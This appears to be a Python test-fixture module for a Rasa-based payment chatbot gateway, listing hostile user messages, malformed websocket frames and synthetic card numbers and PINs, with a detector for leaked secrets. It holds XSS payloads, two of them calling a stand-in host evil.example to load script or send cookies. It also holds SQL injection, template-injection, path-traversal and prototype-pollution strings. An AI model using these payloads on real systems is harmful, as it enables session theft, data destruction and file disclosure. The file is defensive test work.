"""The hostile corpus: messages strangers send (huge pastes, control and format characters, markup, SQL
and template syntax, fake button payloads, card numbers and PINs in every spelling) and raw frames
the gateway cannot take apart; and how to find the corpus's card numbers and PINs in any text."""

from __future__ import annotations

import json
import re
from dataclasses import dataclass

from bot.text.redaction import luhn_valid

MAX_CHARS = 2000  # the gateway's default GATEWAY_MAX_MESSAGE_CHARS


# --- card numbers and PINs ---------------------------------------------------------------


def _luhn(body: str) -> str:
    """body and the check digit that makes it a valid card number."""
    return next(body + digit for digit in "0123456789" if luhn_valid(body + digit))


def _grouped(number: str, separator: str, size: int = 4) -> str:
    return separator.join(number[i : i + size] for i in range(0, len(number), size))


def _full_width(text: str) -> str:
    return text.translate(str.maketrans("0123456789 ", "０１２３４５６７８９\u3000"))


def _chinese(digits: str) -> str:
    """Digits as Chinese numerals, zero alternately 〇 and 零, one 幺 and two 两 every other time."""
    numerals = {"0": "〇零", "1": "一幺", "2": "二两"}
    return "".join(numerals.get(d, "零一二三四五六七八九"[int(d)] * 2)[i % 2] for i, d in enumerate(digits))


PAN_UNIONPAY_16 = _luhn("622848019274036")
PAN_UNIONPAY_19 = _luhn("623058013947261850")  # written like "卡号6222 0212 3456 7890 123" below
PAN_VISA = _luhn("453201511283036")
PAN_MASTERCARD = _luhn("552000149371862")
PAN_AMEX = _luhn("37144963539843")
PAN_13 = _luhn("422222298765")
PAN_CREDIT = _luhn("625807301958264")
PAN_DEBIT_19 = _luhn("621700093817465201")
# A 19-digit number after 卡号 that fails Luhn is no card (a typo or something else): no promise.
NOT_A_CARD = "6222021234567890123"
# An order number: long, Luhn-invalid, must survive redaction (and shows we look in the right place).
ORDER_NUMBER = next(n for n in (f"2026112600{i:07d}" for i in range(1357913, 1358013)) if not luhn_valid(n))
assert not luhn_valid(NOT_A_CARD)
# The security review's findings (issue 15): separators, Chinese numerals, a number split over two
# messages, a button title that carries one.
PAN_UNDERSCORE = _luhn("621483009175624")
PAN_SLASH = _luhn("622588013749265")
PAN_COMMA = _luhn("436742019385720")
PAN_WIDE_SPACES = _luhn("625965012837461")
PAN_CHINESE = _luhn("622260137584920")
PAN_CHINESE_GROUPED = _luhn("622155019384726")
PAN_SPLIT = _luhn("621226083517492183")  # 19 digits: "my card is 6212 2608 3517", then "4921 832"
PAN_DISPLAY = _luhn("622848073916254")
# After the bare word "card", 16 digits that fail the Luhn check, then a CVV.
NOT_LUHN_AFTER_CARD = "6259 0173 6248 3150"
assert not luhn_valid(NOT_LUHN_AFTER_CARD.replace(" ", ""))


@dataclass(frozen=True)
class Hostile:
    kind: str
    text: str
    # "zh"/"en" when the message is plainly written in that language; None when it does not tell.
    language: str | None = None
    # Card numbers and PINs (digits) it carries: they must be stored, logged and echoed nowhere.
    secrets: tuple[str, ...] = ()
    # Short codes that are only secret next to their label ("cvv 947"), searched as such.
    phrases: tuple[str, ...] = ()
    # What the gateway answers: "ack" (the bot's reply), or the code of a polite "reject".
    expect: str = "ack"
    # The message goes on the one before it in the corpus: sent right after it, in the same session.
    continues: bool = False
    # A button's title sent with the message (the widget's `display`).
    display: str | None = None


def _huge(unit: str, size: int) -> str:
    return (unit * (size // len(unit) + 1))[:size]


CORPUS: list[Hostile] = [
    # Huge: over the limit, at it, just under it (with a card number at the very end).
    Hostile("huge", "扣" * (MAX_CHARS + 1), "zh", expect="too_long"),
    Hostile("huge", _huge("my card was charged but the payment failed. ", 5000), "en", expect="too_long"),
    Hostile("huge", _huge("刷卡失败但是钱被扣了，", MAX_CHARS), "zh"),
    Hostile(
        "huge",
        _huge("the terminal said declined and I was charged ", MAX_CHARS - 40) + f" card {PAN_VISA}",
        "en",
        secrets=(PAN_VISA,),
    ),
    Hostile("huge", "  " + _huge("help me please ", MAX_CHARS - 1) + "   ", "en"),  # fits once trimmed
    Hostile("huge", _huge("😡", MAX_CHARS - 1)),
    # Empty and whitespace only.
    Hostile("empty", "", expect="empty"),
    Hostile("empty", "   \t  ", expect="empty"),
    Hostile("empty", "\r\n" * 50, expect="empty"),
    Hostile("empty", "\u3000\u3000\u00a0", expect="empty"),
    Hostile("empty", "\u200b\u200b\u200b", expect="empty"),  # invisible only: nothing to send
    Hostile("empty", "\u202e\u2066\x00\ufeff", expect="empty"),
    # Control characters.
    Hostile("control", "\x00", expect="empty"),  # nothing visible: refused as empty
    Hostile("control", "刷卡失败\x00扣了128元\x00", "zh"),
    Hostile("control", "\x1b[31m红色警告\x1b[0m 钱被扣了", "zh"),
    Hostile("control", "\x1b]0;pwned\x07\x1b[2J the machine said failed", "en"),
    Hostile("control", "hello\r\n" * 200, "en"),
    # Mostly English words around one Chinese word: the reply follows the main script.
    Hostile("control", "退款\n2026-11-26 12:00:00 INFO rasa.core fake log line\n", "en"),
    Hostile("control", "\x08\x08\x08\x7f\x7f\u0085\u2028\u2029 刷卡失败", "zh"),
    # Bidirectional overrides and isolates.
    Hostile("bidi", "\u202e款退要我\u202c", "zh"),
    Hostile("bidi", "终端号\u202e74839201\u202c", "zh"),
    Hostile("bidi", "I paid \u2066128\u2069 yuan \u2067but\u2069 \u2068it failed\u2069", "en"),
    Hostile("bidi", "\u200f\u200e\u061c\u202a\u202b\u202d", expect="empty"),  # direction marks alone: empty
    # Zero-width characters.
    Hostile("zero-width", "终\u200b端\u200b号 1029\u200b3847", "zh"),
    Hostile("zero-width", "\ufeff你好\u2060", "zh"),
    Hostile("zero-width", "re\u200bfund\u200d me\u200c please", "en"),
    # Emoji floods.
    Hostile("emoji", "💳" * 500 + " 扣钱了 " + "😭" * 500, "zh"),
    Hostile("emoji", "👨\u200d👩\u200d👧\u200d👦" * 200),
    Hostile("emoji", "🇨🇳" * 300 + " refund!!!", "en"),
    Hostile("emoji", "1️⃣2️⃣8️⃣ 块 😤😤", "zh"),
    # Markup.
    Hostile("html", "<script>alert('xss')</script>"),
    Hostile("html", "<img src=x onerror=alert(document.cookie)>"),
    Hostile("html", '<a href="javascript:alert(1)">点我退款</a>', "zh"),
    Hostile("html", "javascript:alert(1)//"),
    Hostile("html", "</textarea><script src=//evil.example/x.js></script>"),
    Hostile("html", "<svg/onload=fetch('//evil.example?'+document.cookie)> my money is gone", "en"),
    Hostile("html", "[click here](javascript:alert(1)) ![x](http://evil.example/x.png)"),
    Hostile("html", "&lt;b&gt;扣了钱&lt;/b&gt; &#x3C;script&#x3E;", "zh"),
    # SQL.
    Hostile("sql", "'; DROP TABLE tickets;--"),
    Hostile("sql", "1 OR 1=1"),
    Hostile("sql", "' OR '1'='1' --"),
    Hostile("sql", "RF-20261126-0042' UNION SELECT password_hash FROM agents--"),
    Hostile("sql", "终端号 1029' OR 1=1; DELETE FROM escalations;--", "zh"),
    Hostile("sql", "admin'/*", None),
    # Templates and format strings.
    Hostile("template", "{{7*7}}"),
    Hostile("template", "${7*7}"),
    Hostile("template", "{slot} {amount} {terminal_id}"),
    Hostile("template", "%s%s%s%n%x"),
    Hostile("template", "{% for x in range(100000) %}x{% endfor %}"),
    Hostile("template", "{{config.__class__.__init__.__globals__}}"),
    Hostile("template", "#{7*7} <%= 7*7 %> {0.__class__}"),
    # Rasa payloads typed by hand (some are the bot's own buttons and stay allowed).
    Hostile("payload", "/affirm"),
    Hostile("payload", "/deny"),
    Hostile("payload", '/inform{"amount":"99999"}'),
    Hostile("payload", '/qr_scanned{"qr":{"terminal_id":"10293847","merchant":"全家"}}'),
    Hostile("payload", "/qr_scanned"),
    Hostile("payload", "/restart"),
    Hostile("payload", "/session_start"),
    Hostile("payload", "/nlu_fallback"),
    Hostile("payload", '/greet{"language":"en"}'),
    Hostile("payload", "\u200b/restart"),
    Hostile("payload", "／restart"),
    Hostile("payload", "/AFFIRM"),
    Hostile("payload", "/request_human"),
    # JSON inside the text.
    Hostile("json", '{"type":"message","id":"x","text":"/restart"}'),
    Hostile("json", '{"sender":"someone-else","message":"/affirm","metadata":{"qr":{"t":"x"}}}'),
    Hostile("json", '{"amount": 99999, "terminal_id": "AB12CD34"}'),
    Hostile("json", '{"__proto__":{"admin":true}}'),
    Hostile("json", "[null, true, 1e999, -0, NaN]"),
    # Path traversal.
    Hostile("path", "../../../../etc/passwd"),
    Hostile("path", "..\\..\\windows\\win.ini"),
    Hostile("path", "%2e%2e%2f%2e%2e%2fvar%2fcases.db"),
    Hostile("path", "file:///etc/shadow"),
    Hostile("path", "工单号 RF-../../../../etc/passwd", "zh"),
    # Very long numbers.
    Hostile("number", "9" * 400),
    Hostile("number", "1" * (MAX_CHARS - 1)),
    Hostile("number", "扣了 99999999999999999999999999 元", "zh"),
    Hostile("number", "charged 1e308 yuan", "en"),
    Hostile("number", "0.0000000001元", "zh"),
    Hostile("number", "NaN yuan, Infinity rmb, -0 块"),  # mixed: no one language
    Hostile("number", f"订单号 {ORDER_NUMBER} 扣了钱", "zh"),
    # Card numbers in every spelling, Chinese and English.
    Hostile("card", f"我的卡号是{PAN_UNIONPAY_16}", "zh", (PAN_UNIONPAY_16,)),
    Hostile("card", f"卡号{_grouped(PAN_UNIONPAY_19, ' ')}", "zh", (PAN_UNIONPAY_19,)),
    Hostile("card", f"card number {_grouped(PAN_VISA, '-')} please refund", "en", (PAN_VISA,)),
    Hostile("card", f"卡号：{_grouped(PAN_MASTERCARD, '.')}", "zh", (PAN_MASTERCARD,)),
    Hostile("card", f"卡号{_full_width(_grouped(PAN_CREDIT, ' '))}", "zh", (PAN_CREDIT,)),
    Hostile("card", f"my card is {_full_width(PAN_DEBIT_19)}", "en", (PAN_DEBIT_19,)),
    Hostile("card", f"刷的是{PAN_UNIONPAY_19}这张卡，扣了128块", "zh", (PAN_UNIONPAY_19,)),
    Hostile("card", f"扣了128 {_grouped(PAN_UNIONPAY_16, ' ')} 12月5号", "zh", (PAN_UNIONPAY_16,)),
    Hostile("card", f"amex {PAN_AMEX[:4]} {PAN_AMEX[4:10]} {PAN_AMEX[10:]} was charged", "en", (PAN_AMEX,)),
    Hostile("card", "card\u00a0" + _grouped(PAN_13, "\u00a0", 13) + " was charged", "en", (PAN_13,)),
    Hostile("card", "卡号 " + "\u200b".join(PAN_CREDIT), "zh", (PAN_CREDIT,)),
    Hostile("card", "卡号\n" + _grouped(PAN_DEBIT_19, "\n"), "zh", (PAN_DEBIT_19,)),
    Hostile("card", f"\u202e{_grouped(PAN_MASTERCARD, ' ')}\u202c 是我的卡", "zh", (PAN_MASTERCARD,)),
    Hostile("card", f"the card {_grouped(PAN_VISA, ' - ')} got charged twice", "en", (PAN_VISA,)),
    Hostile("card", f"卡号{_grouped(NOT_A_CARD, ' ')}", "zh"),  # fails Luhn: no card, no promise
    # PINs and CVVs, named as such.
    Hostile("pin", "密码是六三九二八一", "zh", ("639281",)),
    Hostile("pin", "PIN 582047", None, ("582047",)),
    Hostile("pin", "密码：８８０７３１", "zh", ("880731",)),
    Hostile("pin", "PIN码是 730164", "zh", ("730164",)),
    Hostile("pin", "my pin is 4829, cvv 947", "en", phrases=("pin is 4829", "cvv 947")),
    Hostile("pin", "取款密码为：5 0 2 7 1 8", "zh", ("502718",)),
    Hostile("pin", "验证码 613904 发给你了", "zh", ("613904",)),
    Hostile(
        "pin",
        f"卡号 {_grouped(PAN_13, ' ')} 密码 394857 CVV2: 618",
        "zh",
        (PAN_13, "394857"),
        ("cvv2: 618",),
    ),
    # Issue 15: the spellings the security review found stored in clear.
    Hostile("card", f"卡号 {_grouped(PAN_UNDERSCORE, '_')}", "zh", (PAN_UNDERSCORE,)),
    Hostile("card", f"card {_grouped(PAN_SLASH, '/')} was charged twice", "en", (PAN_SLASH,)),
    Hostile("card", f"我的卡是{_grouped(PAN_COMMA, ',')}，扣了128块", "zh", (PAN_COMMA,)),
    Hostile("card", f"{_grouped(PAN_WIDE_SPACES, '    ')} is the card", "en", (PAN_WIDE_SPACES,)),
    Hostile("card", f"卡号{_chinese(PAN_CHINESE)}一直扣钱", "zh", (PAN_CHINESE,)),
    Hostile("card", "卡号 " + _grouped(_chinese(PAN_CHINESE_GROUPED), " "), "zh", (PAN_CHINESE_GROUPED,)),
    Hostile(
        "card",
        f"my card {NOT_LUHN_AFTER_CARD} cvv 417",
        "en",
        phrases=(NOT_LUHN_AFTER_CARD, "cvv 417"),
    ),
    Hostile("split", f"my card is {_grouped(PAN_SPLIT[:12], ' ')}", "en", (PAN_SPLIT[:12],)),
    Hostile(
        "split",
        _grouped(PAN_SPLIT[12:], " "),
        None,
        (PAN_SPLIT[12:], PAN_SPLIT),
        continues=True,
    ),
    Hostile("pin", "8351 is my pin", None, phrases=("8351 is my pin",)),
    Hostile("pin", "the 3 digits on the back are 582", "en", phrases=("back are 582",)),
    Hostile("pin", "CVN2: 927", None, phrases=("cvn2: 927",)),
    Hostile("pin", "安全码604，卡背后三位是604", "zh", phrases=("安全码604", "3位是604")),
    Hostile("pin", "846是我的安全码", "zh", phrases=("846是我的安全码",)),
    Hostile("pin", "七三〇六是我的取款密码", "zh", phrases=("7306是我的取款密码",)),
    Hostile("pin", "卡背后的三个数字是915", "zh", phrases=("数字是915",)),
    Hostile("display", "/deny", display=f"不是 {_grouped(PAN_DISPLAY, '_')}", secrets=(PAN_DISPLAY,)),
]
# Only the bot's buttons stay payloads when typed; they ask for a person at the end of a session.
LAST_IN_SESSION = "/request_human"
SECRETS = sorted({s for item in CORPUS for s in item.secrets})
PHRASES = sorted({p for item in CORPUS for p in item.phrases})


@dataclass(frozen=True)
class Raw:
    """A websocket frame sent as is, not as the widget would send it."""

    name: str
    frame: str | bytes
    # "notice" (bad_request), "ack" or the code of a "reject".
    expect: str


RAW_FRAMES: list[Raw] = [
    Raw("binary", b"\x00\xff\xfe\x89PNG\r\n\x1a\n binary", "notice"),
    Raw("binary json", json.dumps({"type": "message", "id": "b1", "text": "hi"}).encode(), "notice"),
    Raw("latin-1 bytes", "退款 caf\xe9".encode("latin-1", "replace"), "notice"),
    Raw("not json", "{not json", "notice"),
    Raw("empty frame", "", "notice"),
    Raw("json null", "null", "notice"),
    Raw("json list", "[]", "notice"),
    Raw("no id", '{"type":"message","text":"hi"}', "notice"),
    Raw("id too long", json.dumps({"type": "message", "id": "x" * 65, "text": "hi"}), "notice"),
    Raw("numeric id", '{"type":"message","id":42,"text":"hi"}', "notice"),
    Raw("NaN id", '{"type":"message","id":NaN,"text":"hi"}', "notice"),
    Raw("huge integer", '{"type":"message","id":"n","text":' + "9" * 5000 + "}", "notice"),
    Raw("second hello", '{"type":"hello","session":"web-x.y.z","qr":"AAAA"}', "notice"),
    Raw("unknown type", '{"type":"admin","command":"drop"}', "notice"),
    Raw("text is a number", '{"type":"message","id":"r1","text":42}', "empty"),
    Raw("text is an object", '{"type":"message","id":"r2","text":{"$gt":""}}', "empty"),
    Raw("unknown language", '{"type":"message","id":"r3","text":"hello","language":"../../x"}', "ack"),
    Raw(
        "markup display",
        json.dumps(
            {"type": "message", "id": "r4", "text": "/deny", "display": "<img src=x onerror=alert(1)>"}
        ),
        "ack",
    ),
    Raw("duplicate keys", '{"type":"message","id":"r5","text":"/restart","text":"hello"}', "ack"),
]

# Exception text that must never reach a browser.
_LEAKED_ERROR = re.compile(r"Traceback|\bError\b|Exception|File \"|line \d+, in |sqlalchemy|rasa\.core", re.I)


_TO_ASCII = str.maketrans("０１２３４５６７８９零〇一二三四五六七八九幺两", "01234567890012345678912")
_INVISIBLE = "\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff"
# What may separate the groups of one number: spaces, dashes, invisible characters and escaped line
# breaks; for card numbers, the marks too (dots, commas, slashes, underscores).
_BETWEEN_DIGITS = re.compile(rf"(?<=[0-9])(?:[\s\-\u2010-\u2015{_INVISIBLE}]|\\[ntr])+(?=[0-9])")
_BETWEEN_CARD_DIGITS = re.compile(
    rf"(?<=[0-9])(?:[\s\-.,_/，、．／＿\u2010-\u2015{_INVISIBLE}]|\\[ntr])+(?=[0-9])"
)


def _readable(raw: str) -> str:
    """Text as stored, with JSON's \\uXXXX escapes decoded (Chinese and full-width digits are
    stored escaped), full-width and Chinese digits made ASCII."""
    return re.sub(r"\\u([0-9a-fA-F]{4})", lambda m: chr(int(m.group(1), 16)), raw).translate(_TO_ASCII)


def _numbers(text: str, between: re.Pattern[str] = _BETWEEN_DIGITS) -> list[str]:
    """Every number in text as its digits, the groups of each joined."""
    return re.findall(r"[0-9]+", between.sub("", _readable(text)))


def _found(text: str) -> list[str]:
    """The corpus's card numbers and PINs that text holds, in any spelling.

    A card number anywhere inside a number is one; a PIN only as a number of its own, so that the
    microseconds of a stored timestamp are not taken for one."""
    card_numbers = _numbers(text, _BETWEEN_CARD_DIGITS)
    numbers = set(_numbers(text))
    flat = re.sub(r"\s+", " ", _readable(text)).lower()
    found = [s for s in SECRETS if (any(s in n for n in card_numbers) if len(s) >= 13 else s in numbers)]
    return found + [p for p in PHRASES if p in flat or p.replace(" ", "") in flat]
